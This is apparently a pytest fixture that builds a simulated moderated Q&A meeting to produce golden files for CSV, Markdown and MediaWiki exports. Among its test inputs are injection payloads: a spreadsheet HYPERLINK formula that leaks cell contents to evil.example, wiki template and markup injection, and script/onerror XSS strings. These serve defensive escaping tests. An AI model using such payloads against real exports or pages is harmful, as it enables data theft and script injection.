"""A realistic meeting built through the real queue, with a fixed clock, for the export goldens.

Every source (email sent in advance, YouTube chat, Zoom chat, a manual question, the Zoom Q&A
report imported after the call), approvals, edits, tags, a star, assignments, notes, merges
(one keeping the merged question's wording), every dismissal reason (including `banned` from a
ban and `withdrawn` from a deletion at the source) and hostile text aimed at CSV, Markdown and
MediaWiki. Answers happen in an order different from the ids, and one question is reopened and
answered again, so the notes page's answer order is really derived from the history. The
recording's start is marked, two answers follow each other within 10 s (one chapter), the
meeting ends with a question still live and one on the host list (both move to follow-up),
and a follow-up question gets its written answer after the call.
"""

from __future__ import annotations

import asyncio
import itertools
import uuid
from datetime import datetime, timezone
from pathlib import Path

import pytest

import aggregator.decisions
from aggregator.commands import Command
from aggregator.model import Author, Incoming, Status, to_iso
from aggregator.queue import QuestionQueue
from aggregator.store import Store

CONFIG = """
[meeting]
title = "Conversation with Maggie"
starts_at = "2022-11-10T14:00:00Z"
host = "Maggie"
answerers = ["Maggie", "Jan", "Kaarel", "Simona"]

[youtube]
video = "https://www.youtube.com/watch?v=dQw4w9WgXcQ"
"""

HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
HOSTILE_WIKI = ("Is [[Main Page]] {{delete|now}} <script>alert(1)</script> ~~~~ __NOTOC__ "
                "'''bold''' [http://evil.example spoof] ok?")
HOSTILE_MARKDOWN = ("**Urgent** [click](javascript:alert(1)) <img src=x onerror=alert(1)> "
                    "`code` _under_ | pipe & &amp; done?")
HOSTILE_LINES = "first line\n== Fake heading ==\n----\n# not a list\n* nor this\n  - nor this"


class Clock:
    """Stands in for `utc_now` inside the queue, so every stored timestamp is fixed."""

    def __init__(self) -> None:
        self.now = "2022-11-10T13:00:00.000Z"

    def at(self, hh_mm_ss: str, day: str = "2022-11-10") -> None:
        moment = datetime.fromisoformat(f"{day}T{hh_mm_ss}").replace(tzinfo=timezone.utc)
        self.now = to_iso(moment)

    def __call__(self) -> str:
        return self.now


def patch_determinism(monkeypatch: pytest.MonkeyPatch) -> Clock:
    clock = Clock()
    monkeypatch.setattr(aggregator.decisions, "utc_now", clock)
    counter = itertools.count(1)
    monkeypatch.setattr(aggregator.decisions.uuid, "uuid4",
                        lambda: uuid.UUID(int=next(counter)))
    return clock


def _in(source: str, ext: str, name: str, ident: str, text: str, sent_at: str,
        email: str | None = None, **kw: object) -> Incoming:
    return Incoming(source=source, external_id=ext, author=Author(name=name, id=ident,
                                                                  email=email),
                    text=text, sent_at=sent_at, **kw)  # type: ignore[arg-type]


async def build_meeting(queue: QuestionQueue, clock: Clock) -> None:
    async def cmd(op: str, question: int | None = None, actor: str = "Simona",
                  **args: object) -> None:
        await queue.apply(Command(op=op, question=question, args=args), actor)

    async def submit(when: str, incoming: Incoming) -> int:
        clock.at(when)
        result = await queue.submit(incoming)
        return result.question.id

    # Sent in advance by email.
    grants = await submit("13:40:00", _in(
        "email", "<a1@example.org>", "Ana López", "ana@example.org",
        "How will the new grants process affect small affiliates?",
        "2022-11-08T09:12:00.000Z", email="ana@example.org",
        meta={"subject": "Question for Maggie"}))
    minutes = await submit("13:40:01", _in(
        "email", "<b2@example.org>", "Bob Stone", "bob@example.org",
        "When will the board publish the minutes of the October meeting?\n\nThanks, Bob",
        "2022-11-09T18:30:00.000Z", email="bob@example.org"))
    # During the call: YouTube and Zoom chat.
    api = await submit("14:02:10", _in(
        "youtube", "yt-1", "DevFan", "UC1", "Will the API stay free for volunteers?",
        "2022-11-10T14:02:09.000Z"))
    api_dup = await submit("14:02:30", _in(
        "youtube", "yt-2", "Coder Two", "UC2", "will api be free for volunteers??",
        "2022-11-10T14:02:29.000Z"))
    rude = await submit("14:03:00", _in(
        "youtube", "yt-3", "Troll", "UC3", "you are all clowns", "2022-11-10T14:02:59.000Z"))
    spam = await submit("14:03:20", _in(
        "youtube", "yt-4", "Followers4U", "UC4", "BUY CHEAP FOLLOWERS http://spam.example",
        "2022-11-10T14:03:19.000Z"))
    case = await submit("14:04:00", _in(
        "zoom", "zm-1", "Carl", "carl@example.org",
        "My account was blocked last week, can you look at my case?",
        "2022-11-10T14:03:58.000Z", email="carl@example.org"))
    strategy = await submit("14:04:30", _in(
        "zoom", "zm-2", "Dee", "16778240",
        "What is the timeline for the strategy consultation?", "2022-11-10T14:04:29.000Z"))
    hello = await submit("14:05:00", _in(
        "zoom", "zm-3", "Eve", "16778241", "hello everyone!", "2022-11-10T14:04:59.000Z"))
    berlin = await submit("14:05:30", _in(
        "youtube", "yt-5", "Frank", "UC5", "Is the conference in Berlin this year?",
        "2022-11-10T14:05:29.000Z"))
    same = await submit("14:06:00", _in(
        "youtube", "yt-6", "Gina", "UC6", "Same question as DevFan about the API",
        "2022-11-10T14:05:59.000Z"))
    oops = await submit("14:06:30", _in(
        "youtube", "yt-7", "Hal", "UC7", "oops wrong chat", "2022-11-10T14:06:29.000Z"))
    formula = await submit("14:07:00", _in(
        "youtube", "yt-8", HOSTILE_FORMULA, "UC8", "@SUM(1+1) is my question: " + HOSTILE_WIKI,
        "2022-11-10T14:06:59.000Z"))
    markdown = await submit("14:07:30", _in(
        "zoom", "zm-4", "  -Mallory <b>", "16778242", HOSTILE_MARKDOWN,
        "2022-11-10T14:07:29.000Z"))
    lines = await submit("14:08:00", _in(
        "email", "<c3@example.org>", "+Trent", "trent@example.org", HOSTILE_LINES,
        "2022-11-10T14:07:00.000Z", email="trent@example.org"))

    clock.at("14:08:30")
    await cmd("tag", grants, tags=["Grants", "Affiliates"])
    await cmd("star", grants)
    await cmd("assign", grants, assignee="Jan")
    await cmd("approve", grants)
    await cmd("approve", strategy, actor="Patrick")
    await cmd("edit", api, text="Will the API stay free of charge for volunteer developers?")
    await cmd("approve", api)
    clock.at("14:09:00")
    await cmd("merge", api_dup, into=api)
    await cmd("merge", same, into=api, actor="Patrick")
    await cmd("dismiss", rude, reason="disrespectful")
    await cmd("ban", rude)
    await cmd("dismiss", spam, reason="spam", actor="Patrick")
    await cmd("dismiss", case, reason="case_specific")
    await cmd("dismiss", hello, reason="not_a_question")
    await cmd("dismiss", berlin, reason="off_topic")
    await cmd("dismiss", markdown, reason="needs a private answer to Mallory")  # a free reason
    clock.at("14:09:30")
    await queue.apply(Command(op="withdraw", question=oops), "youtube")
    again = await submit("14:10:00", _in(
        "youtube", "yt-9", "Troll", "UC3", "still clowns", "2022-11-10T14:09:59.000Z"))
    assert queue.get(again).status is Status.DISMISSED  # the ban at work

    clock.at("14:10:30")
    await cmd("recording_started")
    # The call: strategy first (through `next`), then grants, then the API question.
    clock.at("14:12:00")
    await cmd("reorder", strategy, rank=0)
    await cmd("next", actor="Maggie")  # strategy goes live
    clock.at("14:19:00")
    await cmd("note", strategy, note="Consultation opens in January; timeline on Meta.")
    await cmd("next", actor="Maggie")  # strategy answered, grants live
    clock.at("14:31:00")
    await cmd("answered", grants)
    await cmd("note", grants, note="Small affiliates keep the simplified track.")
    clock.at("14:32:00")
    await cmd("go_live", api)
    clock.at("14:40:00")
    await cmd("answered", api)
    await cmd("assign", api, assignee="Kaarel")
    clock.at("14:41:00")
    await cmd("reopen", api)  # the host came back to it
    await cmd("approve", formula)
    await cmd("approve", minutes)
    clock.at("14:50:00")
    await cmd("go_live", api)
    clock.at("14:55:00")
    await cmd("answered", api)
    await cmd("note", api, note="Yes: free for volunteers, rate limits stay. See [[API]]!")
    await cmd("go_live", formula)
    clock.at("14:58:00")
    await cmd("answered", formula)
    await cmd("note", formula, note="=1+1 <b>we will not</b> {{answer}} ~~~ that")
    await cmd("follow_up", minutes)
    await cmd("assign", minutes, assignee="Jan")
    await cmd("approve", lines)
    await cmd("follow_up", lines)
    clock.at("15:01:00")
    await cmd("add", text="What did the foundation learn from last year's survey?",
              author="Phone caller")
    manual = max(q.id for q in queue.all())
    await cmd("approve", manual)
    await cmd("go_live", manual)
    clock.at("15:04:00")
    await cmd("answered", manual)
    listed = await submit("15:04:01", _in(
        "youtube", "yt-10", "Lister", "UC10", "10) is this a list?", "2022-11-10T15:04:00.000Z"))
    await cmd("approve", listed)
    await cmd("go_live", listed)
    clock.at("15:04:06")  # answered at once: within 10 s of the next one
    await cmd("answered", listed)
    quick = await submit("15:04:07", _in(
        "youtube", "yt-11", "Quick", "UC11", "1) And a quick one?", "2022-11-10T15:04:07.000Z"))
    left = await submit("15:04:08", _in(
        "zoom", "zm-5", "Nia", "16778250", "Will there be a follow-up session?",
        "2022-11-10T15:04:08.000Z"))
    await cmd("approve", quick)
    await cmd("go_live", quick)
    clock.at("15:04:20")
    await cmd("answered", quick)
    later = await submit("15:04:30", _in(
        "email", "<d4@example.org>", "Olu", "olu@example.org",
        "How do I join the next call?", "2022-11-10T15:04:29.000Z", email="olu@example.org"))
    await cmd("approve", left)
    await cmd("approve", later)
    clock.at("15:05:00")
    await cmd("go_live", left)
    await cmd("end_meeting", actor="Maggie")  # the live one and the host list to follow-up
    clock.at("15:20:00")
    await cmd("note", minutes, note="The minutes are on Meta since 14 November.")
    # After the call: the webinar's Q&A report (answered there, or left for writing).
    clock.at("15:35:00")
    await queue.submit_batch([
        _in("zoom_qa", "qa-1", "Ivy", "ivy@example.org", "Are the sessions recorded?",
            "2022-11-10T14:20:00.000Z", email="ivy@example.org", status=Status.ANSWERED,
            note="Answered in the Q&A panel: yes, on Commons."),
        _in("zoom_qa", "qa-2", "Jon", "jon@example.org",
            "Could you share the slides about the budget?", "2022-11-10T14:44:00.000Z",
            email="jon@example.org", status=Status.FOLLOW_UP),
    ])
    await queue.flush()


async def _build(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    clock = patch_determinism(monkeypatch)
    store = Store(path).open()
    try:
        queue = QuestionQueue(store)
        await queue.start()
        await build_meeting(queue, clock)
    finally:
        store.close()


@pytest.fixture(scope="module")
def meeting_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The meeting's database, built once per test module that imports this fixture."""
    path = tmp_path_factory.mktemp("meeting") / "townhall.db"
    with pytest.MonkeyPatch.context() as mp:
        asyncio.run(_build(path, mp))
    return path
